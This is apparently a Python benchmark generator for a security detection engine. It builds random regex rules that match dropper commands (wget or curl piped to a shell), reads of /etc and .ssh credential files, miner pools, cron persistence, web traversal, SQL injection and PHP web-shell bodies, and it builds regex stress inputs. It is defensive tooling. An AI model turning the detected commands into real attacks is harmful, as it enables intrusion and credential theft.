    return "".join(rng.choice(_SYLLABLES) for _ in range(rng.randint(2, 3)))


def _alt(items: list[str] | tuple[str, ...]) -> str:
    return "(?:" + "|".join(re.escape(i).replace("\\ ", " ") for i in items) + ")"


def _pick(rng: random.Random, items: tuple[str, ...], low: int, high: int) -> list[str]:
    return rng.sample(items, rng.randint(low, min(high, len(items))))


_Family = Callable[[random.Random], tuple[str, str, str]]
"""A generator of (source kind, field, pattern)."""


def _g_tool(rng: random.Random) -> tuple[str, str, str]:
    tool = rng.choice(_TOOLS)
    flag = rng.choice(
        ("s[STUVA]", "p\\s*\\d+", "-(?:rate|ports?|script)", "[a-zA-Z]*[xeoO]", "-?h(?:elp)?")
    )
    return "command", "command_text", rf"(?i)\b{tool}\s+(?:\S+\s+)*-{flag}"


def _g_file_read(rng: random.Random) -> tuple[str, str, str]:
    reader = _alt(
        _pick(rng, ("cat", "head", "tail", "less", "more", "strings", "cp", "base64", "xxd"), 2, 5)
    )
    top = rng.choice(("etc", "proc/self", "proc/\\d+", "root", "home/\\w+/\\.ssh", "var/lib"))
    name = _alt(_pick(rng, _FILES, 1, 3))
    return "command", "command_text", rf"{reader}\s+(?:-\w+\s+)*/{top}/{name}\b"


def _g_dropper(rng: random.Random) -> tuple[str, str, str]:
    tail = rng.choice(
        (
            r"\|\s*(?:ba|z|da)?sh\b",
            r";\s*chmod\s+(?:\+x|[0-7]{3,4})\s+\S*" + rng.choice(_MALWARE_BINS),
            r"-O\s*-?\s*\|\s*sh",
            r"\s+-[qsSfL]+\s+https?://\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?/"
            + rng.choice(_MALWARE_BINS),
        )
    )
    getter = _alt(
        _pick(
            rng, ("wget", "curl", "tftp", "ftpget", "busybox wget", "lwp-download", "fetch"), 1, 3
        )
    )
    return "command", "command_text", rf"(?i){getter}\s+[^;&|]*{tail}"


def _g_kill(rng: random.Random) -> tuple[str, str, str]:
    names = _alt(_pick(rng, (*_PROCS, *_MALWARE_BINS), 2, 6))
    return "command", "command_text", rf"(?:pkill|killall|kill\s+-9)\s+(?:-9\s+|-f\s+)*{names}"


def _g_miner(rng: random.Random) -> tuple[str, str, str]:
    choice = rng.random()
    if choice < 0.4:
        pool = re.escape(rng.choice(_POOLS)).replace("\\.", "[.]")
        return "command", "command_text", rf"(?i)(?:stratum\+(?:tcp|ssl)://)?{pool}(?::\d{{2,5}})?"
    if choice < 0.7:
        return (
            "command",
            "command_text",
            r"(?i)--(?:donate-level|cpu-max-threads-hint|randomx-1gb-pages)[= ]\d+",
        )
    return "command", "command_text", r"-u\s+4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b"


def _g_persist_init(rng: random.Random) -> tuple[str, str, str]:
    name = _family_name(rng)
    where = rng.choice(
        (
            rf"/etc/(?:rc\.local|init\.d/{name}\w*)",
            rf"/etc/systemd/system/{name}\w*\.service",
            r"/etc/cron\.(?:d|hourly|daily)/\w+",
            rf"/(?:var/spool/cron|etc/cron\.d)/(?:root|{name})",
        )
    )
    return "command", "command_text", rf">>?\s*{where}"


def _g_busybox(rng: random.Random) -> tuple[str, str, str]:
    word = "".join(rng.choices(string.ascii_uppercase, k=rng.randint(4, 6)))
    return "command", "command_text", rf"/bin/busybox\s+(?:{word}|[A-Z]{{5}}\b)"


def _g_hexecho(rng: random.Random) -> tuple[str, str, str]:
    count = rng.choice((4, 8, 16, 32))
    magic = rng.choice((r"\\x7f\\x45\\x4c\\x46", r"\\x7fELF", r"\\x23\\x21", ""))
    return (
        "command",
        "command_text",
        rf"echo\s+-[ne]{{1,2}}\s+['\"]?{magic}(?:\\x[0-9a-fA-F]{{2}}){{{count},}}",
    )


def _g_b64(rng: random.Random) -> tuple[str, str, str]:
    prefix = rng.choice(("YmFzaC", "L2Jpbi9", "Y3VybC", "d2dldC", "cHl0aG9u", "bmMg", "cm0gLXJm"))
    decoder = rng.choice(
        (r"base64\s+(?:-d|--decode)", r"openssl\s+(?:enc\s+)?-?base64\s+-d", r"b64decode")
    )
    return "command", "command_text", rf"{prefix}[A-Za-z0-9+/]{{8,}}={{0,2}}['\"]?\s*\|\s*{decoder}"


def _g_family(rng: random.Random) -> tuple[str, str, str]:
    names = [_family_name(rng) for _ in range(rng.randint(2, 4))]
    ext = _alt(_pick(rng, ("sh", "x86", "arm7", "mips", "mpsl", "bin", "py", "pl"), 1, 4))
    return "command", "command_text", rf"(?i)\b(?:{'|'.join(names)})[._-]?\w{{0,8}}\.{ext}\b"


def _g_web_file(rng: random.Random) -> tuple[str, str, str]:
    directory = _alt(_pick(rng, _WEB_DIRS, 1, 3))
    name = _alt(_pick(rng, _WEB_FILES, 1, 4))
    ext = rng.choice(("php", "(?:php|phtml)", "(?:asp|aspx)", "jsp", "cgi", "(?:sh|pl|cgi)"))
    field = rng.choice(("raw_url", "path", "path"))
    return "http_request", field, rf"(?i)/{directory}/(?:[\w.-]+/)*{name}\.{ext}\b"


def _g_web_param(rng: random.Random) -> tuple[str, str, str]:
    params = _alt(_pick(rng, _PARAMS, 1, 4))
    value = rng.choice(
        (
            r"(?:wget|curl|tftp)(?:\+|%20|\s)",
            r"(?:\$\(|%24%28|`)",
            r"(?:%3B|;)\s*(?:sh|bash|busybox)",
            r"(?:https?|ftp|php|data|expect)(?::|%3A)//",
            r"(?:\.\./|\.\.%2f|%2e%2e/){2,}",
        )
    )
    return "http_request", "raw_url", rf"(?i)[?&]{params}=[^&#]*{value}"


def _g_web_traversal(rng: random.Random) -> tuple[str, str, str]:
    target = _alt(
        _pick(
            rng,
            (
                "etc/passwd",
                "etc/shadow",
                "win.ini",
                "boot.ini",
                "proc/self/environ",
                "bin/sh",
                "WEB-INF/web.xml",
            ),
            1,
            3,
        )
    )
    return (
        "http_request",
        "raw_url",
        rf"(?i)(?:\.\.|%2e%2e|\.%2e|%2e\.)(?:/|%2f|\\)+(?:[\w.%-]*/)*{target}",
    )


def _g_web_sqli(rng: random.Random) -> tuple[str, str, str]:
    word = rng.choice(
        (
            r"union(?:\s|%20|\+|/\*\*/)+(?:all(?:\s|%20|\+)+)?select",
            r"(?:sleep|benchmark|pg_sleep)(?:\(|%28)\s*\d+",
            r"(?:information_schema|sysobjects|mysql\.user)",
            r"(?:'|%27)\s*(?:or|and)(?:\s|%20|\+)+\d+\s*=\s*\d+",
            r"(?:xp_cmdshell|load_file|into\s+outfile)",
        )
    )
    return "http_request", rng.choice(("raw_url", "body")), rf"(?i){word}"


def _g_web_ua(rng: random.Random) -> tuple[str, str, str]:
    names = _alt(_pick(rng, _SCANNER_UAS, 1, 4))
    return "http_request", "headers.user-agent", rf"(?i)\b{names}(?:/[\d.x]+)?"


def _g_web_body(rng: random.Random) -> tuple[str, str, str]:
    calls = _alt(
        _pick(
            rng,
            (
                "system",
                "exec",
                "shell_exec",
                "passthru",
                "eval",
                "assert",
                "popen",
                "proc_open",
                "base64_decode",
            ),
            1,
            4,
        )
    )
    superglobal = rng.choice(("_GET", "_POST", "_REQUEST", "_COOKIE", "_SERVER"))
    return "http_request", "body", rf"(?i)<\?(?:php)?\s+[^>]*{calls}\s*\(\s*\${superglobal}\["


def _g_auth_user(rng: random.Random) -> tuple[str, str, str]:
    users = _pick(rng, _RARE_USERS, 2, 6)
    return "auth_attempt", "username", rf"^{_alt(users)}\d{{0,3}}$"


def _g_auth_pass(rng: random.Random) -> tuple[str, str, str]:
    word = rng.choice(
        (
            "p[a@]ssw[o0]rd",
            "adm[i1]n",
            "qwerty",
            "r[o0]{2}t",
            "welcome",
            "letmein",
            "changeme",
            "dragon",
            "summer20\\d{2}",
            "[a-z]+\\d{4}!",
        )
    )
    return "auth_attempt", "password", rf"(?i)^{word}[!@#$]?\d{{0,4}}$"


def _g_payload_redis(rng: random.Random) -> tuple[str, str, str]:
    cmds = _alt(_pick(rng, _REDIS_CMDS, 1, 3))
    return "payload", "payload_text", rf"(?i)\*\d+\r\n\$\d+\r\n{cmds}\r\n"


def _g_payload_proto(rng: random.Random) -> tuple[str, str, str]:
    pattern = rng.choice(
        (
            r"^MGLNDD_\d{1,3}(?:\.\d{1,3}){3}_\d+",
            r"(?i)mstshash=\w{3,32}",
            r"^SSH-2\.0-(?:Go|libssh[\w.-]*|paramiko_[\d.]+|AsyncSSH_[\d.]+)\r?\n?$",
            r"\bhost::\x00?",
            r"(?i)\"Binds\"\s*:\s*\[\s*\"/:/\w+\"",
            r"(?i)^(?:OPTIONS|REGISTER|INVITE) sip:\S+ SIP/2\.0",
            r"^\x16\x03[\x00-\x03]",
            rf"(?i)(?:GET|POST) /{rng.choice(_WEB_DIRS)}/",
        )
    )
    return "payload", "payload_text", pattern


def _g_mail_subject(rng: random.Random) -> tuple[str, str, str]:
    first = _alt(_pick(rng, _PHISH_WORDS[0], 1, 3))
    second = _alt(_pick(rng, _PHISH_WORDS[1], 1, 3))
    return "email", rng.choice(("subject", "body")), rf"(?i)\b{first}\b.{{0,40}}\b{second}\b"


def _g_mail_attach(rng: random.Random) -> tuple[str, str, str]:
    exts = _alt(_pick(rng, _EXTENSIONS, 2, 6))
    lure = rng.choice(("", r"(?:\.pdf|\.docx?|\.xlsx?)"))
    return "email", "attachments", rf"(?i){lure}\.{exts}$"


def _g_mail_from(rng: random.Random) -> tuple[str, str, str]:
    word = _alt(
        _pick(
            rng,
            (
                "office365",
                "microsoft",
                "paypal",
                "dhl",
                "fedex",
                "docusign",
                "wetransfer",
                "outlook",
                "secure",
                "verify",
            ),
            1,
            3,
        )
    )
    tld = _alt(_pick(rng, ("top", "xyz", "cc", "live", "icu", "click", "shop", "info", "ru"), 1, 4))
    return "email", "from", rf"(?i)@(?:[\w-]+\.)*[\w-]*{word}[\w-]*\.{tld}\b"


_FAMILIES: Final[tuple[tuple[str, _Family, float], ...]] = (
    ("tool", _g_tool, 5),
    ("file_read", _g_file_read, 5),
    ("dropper", _g_dropper, 7),
    ("kill", _g_kill, 3),
    ("miner", _g_miner, 3),
    ("persist_init", _g_persist_init, 3),
    ("busybox", _g_busybox, 2),
    ("hexecho", _g_hexecho, 2),
    ("b64", _g_b64, 3),
    ("family", _g_family, 7),
    ("web_file", _g_web_file, 8),
    ("web_param", _g_web_param, 6),
    ("web_traversal", _g_web_traversal, 3),
    ("web_sqli", _g_web_sqli, 3),
    ("web_ua", _g_web_ua, 2),
    ("web_body", _g_web_body, 3),
    ("auth_user", _g_auth_user, 6),
    ("auth_pass", _g_auth_pass, 5),
    ("payload_redis", _g_payload_redis, 3),
    ("payload_proto", _g_payload_proto, 6),
    ("mail_subject", _g_mail_subject, 3),
    ("mail_attach", _g_mail_attach, 3),
    ("mail_from", _g_mail_from, 2),
)


def _yaml_quote(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _rule_yaml(
    rule_id: str, family: str, kind: str, field: str, pattern: str, rng: random.Random
) -> str:
    tactic, technique, sub = _TECH[family]
    emit = f"  - tactic: {tactic}\n    technique_id: {technique}\n"
    if sub is not None:
        emit += f"    sub_technique_id: {sub}\n"
    emit += f"    confidence: {rng.choice((0.4, 0.5, 0.6, 0.7, 0.8, 0.9))}\n"
    return (
        f"rule_id: {rule_id}\n"
        "rule_version: 1\n"
        f"name: bench_{family}_{rule_id.lower()}\n"
        f"description: Generated benchmark rule ({family}).\n"
        f"applies_to: [{kind}]\n"
        "match:\n"
        f"  field: {field}\n"
        f"  pattern: {_yaml_quote(pattern)}\n"
        "emits:\n"
        f"{emit}"
        f"evidence_fields: [{field}]\n"
    )


def generate_rules(count: int, seed: int = 7, prefix: str = "BENCH") -> list[GeneratedRule]:
    """`count` distinct single-pattern rules over every source kind, identical for one seed.

    Patterns are stdlib-`re` compatible (and RE2 compatible), so the benchmark can run the
    same expressions through a naive loop.
    """
    rng = random.Random(seed)
    names = [name for name, _, _ in _FAMILIES]
    builders = {name: builder for name, builder, _ in _FAMILIES}
    weights = [weight for _, _, weight in _FAMILIES]
    seen: set[tuple[str, str]] = set()
    rules: list[GeneratedRule] = []
    attempts = 0
    while len(rules) < count:
        attempts += 1
        if attempts > count * 50:
            raise RuntimeError(f"could not generate {count} distinct rules")
        family = rng.choices(names, weights)[0]
        kind, field, pattern = builders[family](rng)
        if (field, pattern) in seen:
            continue
        seen.add((field, pattern))
        rule_id = f"{prefix}{len(rules) + 1:04d}"
        rules.append(
            GeneratedRule(
                rule_id,
                kind,
                field,
                pattern,
                family,
                _rule_yaml(rule_id, family, kind, field, pattern, rng),
            )
        )
    return rules


# --------------------------------------------------------------------------------------------
# Pathological inputs
# --------------------------------------------------------------------------------------------

_ANY_SAMPLE: Final = "a"
_CATEGORY_SAMPLES: Final[dict[Any, str]] = {
    sre_c.CATEGORY_DIGIT: "7",
    sre_c.CATEGORY_NOT_DIGIT: "a",
    sre_c.CATEGORY_SPACE: " ",
    sre_c.CATEGORY_NOT_SPACE: "x",
    sre_c.CATEGORY_WORD: "w",
    sre_c.CATEGORY_NOT_WORD: "-",
}
_TERMINATORS: Final = "!\x00~\n#\u00e9"


@dataclass(slots=True)
class PatternShape:
    """What a pattern's quantifiers accept and which literal fragments it contains."""

    literals: list[str]
    loop_chars: list[str]
    alphabet: set[str]
    sample: str
    parsed: bool


def _set_samples(items: list[tuple[Any, Any]]) -> list[str]:
    """A few characters an `[...]` class accepts (or, if negated, a few it does not reject)."""
    negated = any(op is sre_c.NEGATE for op, _ in items)
    chars: list[str] = []
    for op, arg in items:
        if op is sre_c.LITERAL:
            chars.append(chr(arg))
        elif op is sre_c.RANGE:
            low, high = arg
            chars.extend(dict.fromkeys((chr(low), chr((low + high) // 2), chr(high))))
        elif op is sre_c.CATEGORY:
            chars.append(_CATEGORY_SAMPLES.get(arg, "a"))
    if negated:
        return [c for c in "a -/x7\\" if c not in chars][:3] or ["a"]
    return chars or ["a"]


class _ShapeWalker:
    def __init__(self) -> None:
        self.literals: list[str] = []
        self.loop_chars: list[str] = []
        self.alphabet: set[str] = set()
        self._run: list[str] = []

    def flush(self) -> None:
        if len(self._run) >= 2:
            self.literals.append("".join(self._run))
        self._run = []

    def walk(self, items: Any, in_loop: bool) -> str:
        """Walk parsed items, recording literals and loop characters; return a sample match."""
        out: list[str] = []
        for op, arg in items:
            if op is sre_c.LITERAL:
                char = chr(arg)
                self._run.append(char)
                self.alphabet.add(char)
                if in_loop:
                    self.loop_chars.append(char)
                out.append(char)
                continue
            self.flush()
            if op is sre_c.NOT_LITERAL:
                char = "a" if chr(arg) != "a" else "b"
                self._loop(char, in_loop)
                out.append(char)
            elif op is sre_c.ANY:
                self._loop(_ANY_SAMPLE, in_loop)
                out.append(_ANY_SAMPLE)
            elif op is sre_c.IN:
                samples = _set_samples(arg)
                for char in samples:
                    self._loop(char, in_loop)
                out.append(samples[0])
            elif op in (sre_c.MAX_REPEAT, sre_c.MIN_REPEAT, sre_c.POSSESSIVE_REPEAT):
                low, high, sub = arg
                looping = in_loop or high is sre_c.MAXREPEAT or high > 1
                piece = self.walk(sub, looping)
                self.flush()
                out.append(piece * max(low, 1 if high else 0))
            elif op is sre_c.SUBPATTERN:
                out.append(self.walk(arg[-1], in_loop))
            elif op is sre_c.ATOMIC_GROUP:
                out.append(self.walk(arg, in_loop))
            elif op is sre_c.BRANCH:
                branches = [self.walk(branch, in_loop) for branch in arg[1]]
                self.flush()
                out.append(branches[0] if branches else "")
            elif op in (sre_c.ASSERT, sre_c.ASSERT_NOT):
                self.walk(arg[1], in_loop)
                self.flush()
            elif op is sre_c.CATEGORY:
                # \d, \w, \s outside a class
                char = _CATEGORY_SAMPLES.get(arg, "a")
                self._loop(char, in_loop)
                out.append(char)
        return "".join(out)

    def _loop(self, char: str, in_loop: bool) -> None:
        self.alphabet.add(char)
        if in_loop:
            self.loop_chars.append(char)


def pattern_shape(pattern: str) -> PatternShape:
    """Analyse an RE2-dialect pattern with the stdlib parser (falls back to a rough scan)."""
    translated = pattern.replace("\\z", "\\Z")
    try:
        parsed = sre_parse.parse(translated)
    except (re.error, OverflowError, RecursionError, ValueError):
        words = re.findall(r"[A-Za-z0-9_./-]{2,}", pattern)
        chars = set(re.sub(r"\\.", "", pattern))
        return PatternShape(words, ["a", " ", "0"], chars | {"a"}, "".join(words[:3]), parsed=False)
    walker = _ShapeWalker()
    sample = walker.walk(parsed, in_loop=False)
    walker.flush()
    loop_chars = list(dict.fromkeys(walker.loop_chars))
    literals = list(dict.fromkeys(walker.literals))
    return PatternShape(literals, loop_chars, walker.alphabet or {"a"}, sample, parsed=True)


def _fit(piece: str, size: int, tail: str = "") -> str:
    """`piece` repeated to `size` characters in total, ending with `tail`."""
    if not piece:
        piece = "a"
    body = size - len(tail)
    return (piece * (body // len(piece) + 1))[:body] + tail


def _terminator(shape: PatternShape) -> str:
    return next((c for c in _TERMINATORS if c not in shape.alphabet), "\x01")


def attack_strings(pattern: str, size: int, seed: int = 0) -> Iterator[tuple[str, str]]:
    """(label, text) pairs of `size` characters built to stress `pattern`.

    The labels name the construction so a slow case can be reproduced.
    """
    shape = pattern_shape(pattern)
    rng = random.Random(f"{seed}|{pattern}|{size}")
    stop = _terminator(shape)
    yield "a*n+!", _fit("a", size, "!")
    for char in shape.loop_chars[:6]:
        yield f"loop[{char!r}]*n+stop", _fit(char, size, stop)
    head = shape.literals[0] if shape.literals else shape.sample[:8]
    for char in shape.loop_chars[:3]:
        yield f"lit0+loop[{char!r}]*n+stop", head + _fit(char, size - len(head), stop)
    if shape.literals:
        yield "literals-repeated", _fit(" ".join(shape.literals), size)
        yield "literal0-repeated", _fit(shape.literals[0], size)
        yield (
            "literals-glued-by-loop",
            _fit(
                "".join(
                    lit + (shape.loop_chars[0] if shape.loop_chars else " ") * 3
                    for lit in shape.literals
                ),
                size,
                stop,
            ),
        )
    if len(shape.sample) > 1:
        yield "near-miss-repeated", _fit(shape.sample[:-1], size, stop)
        yield (
            "sample-then-loop",
            shape.sample
            + _fit(
                shape.loop_chars[-1] if shape.loop_chars else "a",
                max(size - len(shape.sample), 1),
                stop,
            ),
        )
    alphabet = sorted(shape.alphabet | set(shape.loop_chars))
    yield "random-alphabet", _random_text(rng, alphabet, size)
    yield "random-unicode", random_unicode(size, seed)


def _random_text(rng: random.Random, alphabet: list[str], size: int) -> str:
    """`size` characters drawn from `alphabet` (random bytes mapped through a table: fast)."""
    raw = rng.randbytes(size)
    if all(ord(char) < 256 for char in alphabet):
        table = bytes(ord(alphabet[byte % len(alphabet)]) for byte in range(256))
        return raw.translate(table).decode("latin-1")
    return raw.decode("latin-1").translate(
        {byte: alphabet[byte % len(alphabet)] for byte in range(256)}
    )


@functools.cache
def random_unicode(size: int, seed: int = 0) -> str:
    """`size` random printable characters, a third ASCII, the rest from the BMP (no surrogates)."""
    rng = random.Random(f"unicode|{seed}|{size}")
    pool = [chr(rng.randint(0x20, 0x7E)) for _ in range(85)]
    pool += [chr(rng.randint(0xA0, 0xD7FF)) for _ in range(114)]
    pool += [chr(rng.randint(0xE000, 0xFFFD)) for _ in range(57)]
    return _random_text(rng, pool, size)
